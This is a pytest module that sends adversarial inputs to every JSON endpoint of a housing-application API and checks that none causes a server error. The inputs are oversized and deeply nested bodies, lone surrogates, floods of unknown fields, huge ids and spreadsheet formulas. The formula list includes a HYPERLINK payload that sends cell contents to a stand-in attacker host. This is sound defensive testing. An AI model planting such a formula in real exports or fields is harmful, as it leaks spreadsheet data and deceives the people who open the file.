"""Adversarial inputs over every JSON operation of the OpenAPI document, so that a new
endpoint gets them as soon as it is documented. It runs in the suite, beside the schemathesis
fuzzing (scripts/fuzz_api.py, `make fuzz`), which generates valid-looking requests; these are
the hostile ones it would not think of:

- oversized bodies: 413, read no further than the limit;
- JSON nested past any parser's depth: 400 "The request body is not valid JSON";
- lone surrogates in a string or a key: 400, as no database can store them;
- bodies of many unknown fields: a 4xx whose list of errors stays short;
- huge ids in path parameters (2**31, 2**63, 2**64, fullwidth digits): 404 or 400;
- spreadsheet formulas in every text field: stored or refused.

None may ever be a 5xx. Each operation is called as the fuzzer calls it: the portal's /profile
operations with an applicant's token, the other private ones with housing staff's.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from app.api.responses import MAX_REPORTED_ERRORS
from app.extensions import limiter
from app.request_limits import MAX_JSON_MEMBERS, NOT_JSON, TOO_DEEP
from app.text_guard import SURROGATE_MESSAGE
from tests.api.operations import (
    START_APPLICANT,
    Operation,
    Records,
    ids,
    operations,
    resolve,
    with_body,
    with_path_parameters,
)
from tests.applications.conftest import MAIN_APPLICANT
from tests.listings.conftest import (  # noqa: F401 (fixtures the records are made with)
    listing,
    make_development,
    make_listing,
    make_property,
)
from tests.probation.conftest import full_case, make_case  # noqa: F401 (fixtures, as above)
from tests.tenures.conftest import SEED_TENURE

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click for your results")', "+1", "@SUM(1)"]
HUGE_NUMBERS = (2**31, 2**63, 2**64)
FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


@pytest.fixture(autouse=True)
def _fresh_rate_limits(app):
    limiter.reset()
    yield
    limiter.reset()


@pytest.fixture
def records(request, as_user) -> Records:
    return Records(request, as_user)


def placeholder(schema: dict) -> Any:
    """A path value for a request refused before any record is looked up."""
    return schema["enum"][0] if "enum" in schema else 1


def send(records: Records, operation: Operation, values: dict, **kwargs):
    caller = records.caller(operation.caller)
    response = caller(operation.method, operation.url(values), **kwargs)
    assert response.status_code < 500, (
        f"{operation} answered {response.status_code}: {response.get_data(as_text=True)[:500]}"
    )
    return response


def send_raw(records: Records, operation: Operation, body: bytes):
    values = {name: placeholder(schema) for name, schema in operation.path_parameters}
    return send(records, operation, values, data=body, content_type="application/json")


def assert_json_error(response, status: int, message: str | None = None) -> None:
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    assert response.is_json
    assert isinstance(response.json["error"], str)
    if message is not None:
        assert response.json["error"] == message
    assert response.headers["Cache-Control"] == "no-store"


# -- oversized --------------------------------------------------------------------------------


def body_limit_of(app, operation: Operation) -> int:
    """The route's own limit (`@body_limit`, as a bulk upload has), else MAX_CONTENT_LENGTH."""
    values = {name: placeholder(schema) for name, schema in operation.path_parameters}
    endpoint, _ = app.url_map.bind("localhost").match(operation.url(values), operation.method)
    view = app.view_functions[endpoint]
    return getattr(view, "max_body_bytes", None) or app.config["MAX_CONTENT_LENGTH"]


@pytest.mark.parametrize("operation", operations(), ids=ids)
def test_a_body_over_the_limit_is_refused_with_413(app, records, operation):
    limit = body_limit_of(app, operation)
    body = b'{"padding": "' + b"x" * limit + b'"}'
    response = send_raw(records, operation, body)
    assert_json_error(response, 413)
    assert f"{limit:,}" in response.json["error"]


# -- nested -----------------------------------------------------------------------------------


@pytest.mark.parametrize("operation", with_body(), ids=ids)
def test_deeply_nested_json_is_refused(records, operation):
    assert_json_error(send_raw(records, operation, b"[" * 100_000), 400, NOT_JSON)
    closed = b'{"a":' * 5_000 + b"1" + b"}" * 5_000
    assert_json_error(send_raw(records, operation, closed), 400, NOT_JSON)
    # Valid, and within the parser's reach, but deeper than any API takes.
    deep = b'{"a":' * 100 + b"1" + b"}" * 100
    assert_json_error(send_raw(records, operation, deep), 400, TOO_DEEP)


# -- surrogates -------------------------------------------------------------------------------


LONE_SURROGATES = {
    "in a value": b'{"name": "a\\ud800b"}',
    "in a key": b'{"\\udfff": 1}',
    "deep inside": b'{"list": [{"deep": ["\\uDBFF"]}]}',
    "as a pair the wrong way round": b'{"backwards": "\\ude00\\ud83d"}',
}


@pytest.mark.parametrize("operation", with_body(), ids=ids)
def test_a_lone_surrogate_anywhere_in_the_body_is_refused(records, operation):
    for where, body in LONE_SURROGATES.items():
        response = send_raw(records, operation, body)
        assert response.status_code == 400, where
        assert_json_error(response, 400, SURROGATE_MESSAGE)
    # A pair spells one character, which is no problem.
    response = send_raw(records, operation, b'{"name": "\\ud83d\\ude00"}')
    assert not (response.status_code == 400 and response.json["error"] == SURROGATE_MESSAGE)


# -- many fields ------------------------------------------------------------------------------


@pytest.mark.parametrize("operation", with_body(), ids=ids)
def test_a_body_of_many_unknown_fields_gets_a_short_answer(records, operation):
    wide = {f"unknown_{number}": number for number in range(MAX_JSON_MEMBERS)}
    response = send_raw(records, operation, json.dumps(wide).encode())
    assert 400 <= response.status_code < 500
    if response.status_code == 422:
        assert len(response.json["errors"]) <= MAX_REPORTED_ERRORS
        if "errorCount" in response.json:
            assert response.json["errorCount"] > MAX_REPORTED_ERRORS
    assert len(response.get_data()) < 50_000

    wider = {**wide, "one_too_many": 0}
    assert_json_error(send_raw(records, operation, json.dumps(wider).encode()), 400)


# -- huge ids ---------------------------------------------------------------------------------


def _huge_id_cases():
    for operation in with_path_parameters():
        for name, schema in operation.path_parameters:
            if "enum" in schema:
                continue
            for number in HUGE_NUMBERS:
                yield pytest.param(operation, name, str(number), id=f"{operation}-{name}={number}")
            if schema.get("type") == "integer":
                # The fullwidth spelling of a record that exists: werkzeug's own int converter
                # read "１" as 1.
                yield pytest.param(operation, name, None, id=f"{operation}-{name}=fullwidth")
            else:
                yield pytest.param(operation, name, "１２３", id=f"{operation}-{name}=fullwidth")


HUGE_ID_CASES = list(_huge_id_cases())


@pytest.mark.parametrize(("operation", "name", "value"), HUGE_ID_CASES)
def test_an_id_beyond_the_database_or_in_other_digits_is_not_found(records, operation, name, value):
    values = records.values(operation)
    if value is None:
        value = str(values[name]).translate(FULLWIDTH)
    values[name] = value
    body = {} if operation.body_schema is not None else None
    response = send(records, operation, values, json=body)
    if dict(operation.path_parameters)[name].get("type") == "integer":
        # A database id: nothing is found past 2**31 - 1, nor under other digits.
        assert response.status_code in (400, 404), response.get_data(as_text=True)[:500]
    assert response.is_json or response.status_code == 204


# -- spreadsheet formulas ---------------------------------------------------------------------


def _is_free_text(schema: dict) -> bool:
    schema = resolve(schema)
    if "anyOf" in schema:
        return any(_is_free_text(option) for option in schema["anyOf"])
    types = schema.get("type")
    types = types if isinstance(types, list) else [types]
    constrained = {"enum", "const", "format", "pattern"} & schema.keys()
    return "string" in types and not constrained


def text_fields(schema: dict, base: Any, path: tuple = ()):
    """The path of every free-text field of `schema`, into objects and lists `base` has."""
    schema = resolve(schema)
    for part in schema.get("allOf", ()):
        yield from text_fields(part, base, path)
    # Of alternatives (the main applicant or a joint one), the first that is an object.
    objects = [option for option in schema.get("anyOf", ()) if "properties" in resolve(option)]
    if objects:
        yield from text_fields(objects[0], base, path)
    if isinstance(base, dict):
        for name, field in schema.get("properties", {}).items():
            if _is_free_text(field):
                yield (*path, name)
            elif isinstance(base.get(name), dict | list):
                yield from text_fields(field, base[name], (*path, name))
    elif isinstance(base, list) and base and "items" in schema:
        yield from text_fields(schema["items"], base[0], (*path, 0))


def with_text_at(base: Any, path: tuple, text: str) -> Any:
    changed = copy.deepcopy(base)
    target = changed
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = text
    return changed


def base_body(operation: Operation, records: Records) -> dict:
    """A body the operation would accept, so that a formula reaches storage where it can."""
    listing_id = lambda: records.value("listing_id", {})  # noqa: E731 - made only if needed
    person = {k: v for k, v in SEED_TENURE["householdMembers"][0].items() if k != "id"}
    bodies = {
        "register": lambda: {
            "name": "Formula Tester",
            "email": "formula.tester@example.com",
            "password": "a long enough password",
        },
        "login": lambda: {"email": "formula.tester@example.com", "password": "not it"},
        "start-application": lambda: {"listingId": listing_id(), "applicants": [START_APPLICANT]},
        "save-application": lambda: {"listingId": listing_id(), "applicants": [START_APPLICANT]},
        "submit-application": lambda: {"listingId": listing_id(), "applicants": [MAIN_APPLICANT]},
        "submit-application-signed-out": lambda: {
            "listingId": listing_id(),
            "applicants": [MAIN_APPLICANT],
        },
        "create-tenure": lambda: copy.deepcopy(SEED_TENURE),
        "update-tenure": lambda: {"paymentReference": "228001234"},
        "save-household-member": lambda: person,
    }
    make = bodies.get(operation.operation_id)
    return make() if make else {}


def current_etag(records: Records, operation: Operation, values: dict) -> dict:
    """If-Match for a write to a record that is read with ETags (by the nearest GET)."""
    readers = [
        op
        for op in operations()
        if op.method == "GET" and operation.path.startswith(op.path) and op.path_parameters
    ]
    if not readers:
        return {}
    reader = max(readers, key=lambda op: len(op.path))
    response = records.caller(reader.caller)("GET", reader.url(values))
    etag = response.headers.get("ETag")
    return {"If-Match": etag} if etag else {}


@pytest.mark.parametrize("operation", with_body(), ids=ids)
@pytest.mark.parametrize("formula", FORMULAS, ids=["hyperlink", "plus", "at"])
def test_a_spreadsheet_formula_in_any_text_field_is_stored_or_refused(records, operation, formula):
    values = records.values(operation)
    base = base_body(operation, records)
    fields = list(text_fields(operation.body_schema, base))
    for path in fields or [("note",)]:
        limiter.reset()  # so that every request reaches the view, the signed-out one too
        headers = current_etag(records, operation, values)
        response = send(
            records, operation, values, json=with_text_at(base, path, formula), headers=headers
        )
        assert response.is_json or response.status_code == 204, path
